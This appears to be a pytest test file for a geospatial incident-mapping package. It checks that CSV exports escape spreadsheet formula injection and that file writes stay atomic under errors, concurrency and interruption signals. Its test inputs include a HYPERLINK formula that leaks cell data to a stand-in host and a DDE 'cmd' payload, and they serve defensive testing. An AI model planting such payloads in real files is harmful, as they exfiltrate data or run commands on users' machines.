"""Exports: CSV safe to open in a spreadsheet, and writes that are atomic under
interruption, concurrency and errors."""

from __future__ import annotations

import csv
import os
import signal
import stat
import subprocess
import sys
import threading
import time

import pytest

from geomap.errors import OutputError
from geomap.export import neutralise_cell, read_incidents, restore_cell, write_incidents
from geomap.atomic import atomic_path, write_atomic
from geomap.models import Document
from geomap.pipeline import extract

from .conftest import ROOT

HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
                  "+1+1", "-2+3", "\t=1+2", "\r=1+2", "'=already quoted", "Plain title"]


@pytest.fixture(scope="module")
def hostile_incidents():
    docs = [Document(f"=d{n}", f"Drones struck Odesa. {title}", title=title,
                     url="=1+1", date="2024-01-0" + str(n + 1))
            for n, title in enumerate(HOSTILE_TITLES)]
    return extract(docs)


def test_csv_from_hostile_titles_has_no_cell_starting_a_formula(hostile_incidents, tmp_path):
    path = write_incidents(hostile_incidents, tmp_path / "incidents.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 1 + len(HOSTILE_TITLES)
    header = rows[0]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        record = dict(zip(header, row))
        # Numbers stay numbers: a spreadsheet sums them, negative longitudes included.
        float(record["lat"]), float(record["lon"]), int(record["start"])
    titles = {dict(zip(header, row))["title"] for row in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in titles
    assert "''=already quoted" in titles and "Plain title" in titles


def test_csv_reads_back_exactly_as_extracted(hostile_incidents, tmp_path):
    path = write_incidents(hostile_incidents, tmp_path / "incidents.csv")
    back = read_incidents(path)
    assert sorted(back["title"]) == sorted(hostile_incidents["title"])
    assert set(back["doc_id"]) == set(hostile_incidents["doc_id"])
    assert back["lon"].dtype == "float64" and back["start"].dtype == "int64"


def test_negative_numbers_in_numeric_columns_are_not_quoted(hostile_incidents, tmp_path):
    gdf = hostile_incidents.copy()
    gdf["lon"] = -73.5
    path = write_incidents(gdf, tmp_path / "west.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        record = next(csv.DictReader(fh))
    assert record["lon"] == "-73.5"


@pytest.mark.parametrize("value", ["=1", "+", "-", "@a", "\tx", "\rx", "'", "''", "'=x", "a=b",
                                   "", "Kyiv", "'tis"])
def test_neutralising_is_reversible(value):
    assert restore_cell(neutralise_cell(value)) == value


# ---------------------------------------------------------------- atomic writes

def test_rewrite_keeps_the_files_permissions(tmp_path):
    path = tmp_path / "map.html"
    path.write_text("old")
    os.chmod(path, 0o600)
    write_atomic(path, "new")
    assert path.read_text() == "new"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert os.listdir(tmp_path) == ["map.html"]


def test_export_rewrite_keeps_permissions_too(hostile_incidents, tmp_path):
    path = tmp_path / "incidents.gpkg"
    write_incidents(hostile_incidents, path)
    os.chmod(path, 0o640)
    write_incidents(hostile_incidents, path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert os.listdir(tmp_path) == ["incidents.gpkg"]


def test_errors_name_the_requested_path_and_leave_nothing(tmp_path):
    (tmp_path / "file").write_text("x")
    target = tmp_path / "file" / "out.html"
    with pytest.raises(OutputError, match=f"^{target}: cannot write"):
        write_atomic(target, "x")
    locked = tmp_path / "locked"
    locked.mkdir()
    os.chmod(locked, 0o500)
    try:
        if os.access(locked, os.W_OK):
            pytest.skip("running as a user that can write anywhere")
        with pytest.raises(OutputError, match=f"^{locked / 'out.html'}: cannot write"):
            write_atomic(locked / "out.html", "x")
    finally:
        os.chmod(locked, 0o700)


def test_failure_inside_the_write_keeps_the_old_file(tmp_path):
    path = tmp_path / "out.txt"
    path.write_text("old")
    with pytest.raises(RuntimeError):
        with atomic_path(path) as tmp:
            tmp.write_text("half")
            raise RuntimeError("disk full")
    assert path.read_text() == "old" and os.listdir(tmp_path) == ["out.txt"]


def test_concurrent_writers_leave_one_complete_file(tmp_path):
    path = tmp_path / "out.txt"
    contents = ["a" * 200_000, "b" * 300_000]

    def writer(text):
        for _ in range(15):
            write_atomic(path, text)

    threads = [threading.Thread(target=writer, args=(c,)) for c in contents]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert path.read_text() in contents
    assert os.listdir(tmp_path) == ["out.txt"]


_SLOW_WRITER = """
import sys, time
from geomap.atomic import atomic_path
with atomic_path(sys.argv[1]) as tmp:
    tmp.write_text("partial")
    print("writing", flush=True)
    time.sleep(30)
"""


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_interrupted_write_leaves_the_old_file_and_no_temporary(tmp_path, signum):
    path = tmp_path / "out.txt"
    path.write_text("old")
    # A job started in the background of a script inherits SIGINT ignored, and so would
    # the writer: it gets the default back, as in a terminal.
    proc = subprocess.Popen([sys.executable, "-c", _SLOW_WRITER, str(path)], cwd=ROOT,
                            stdout=subprocess.PIPE, env={**os.environ, "PYTHONPATH": str(ROOT)},
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    assert proc.stdout.readline().strip() == b"writing"
    proc.send_signal(signum)
    assert proc.wait(timeout=20) != 0
    time.sleep(0.05)
    assert path.read_text() == "old"
    assert os.listdir(tmp_path) == ["out.txt"]


def test_a_write_removes_what_a_killed_writer_left_and_spares_live_ones(tmp_path):
    path = tmp_path / "incidents.gpkg"
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True).stdout.strip()
    left = [tmp_path / f".incidents.gpkg.{dead}-x1.tmp.gpkg",
            tmp_path / f".incidents.gpkg.{dead}-x1.tmp.gpkg-journal"]
    live = tmp_path / f".incidents.gpkg.{os.getppid()}-x2.tmp.gpkg"  # a writer still running
    other = tmp_path / f".other.gpkg.{dead}-x3.tmp.gpkg"  # another output's
    for p in (*left, live, other):
        p.write_text("partial")
    write_atomic(path, "whole")
    assert path.read_text() == "whole"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["incidents.gpkg", live.name, other.name])
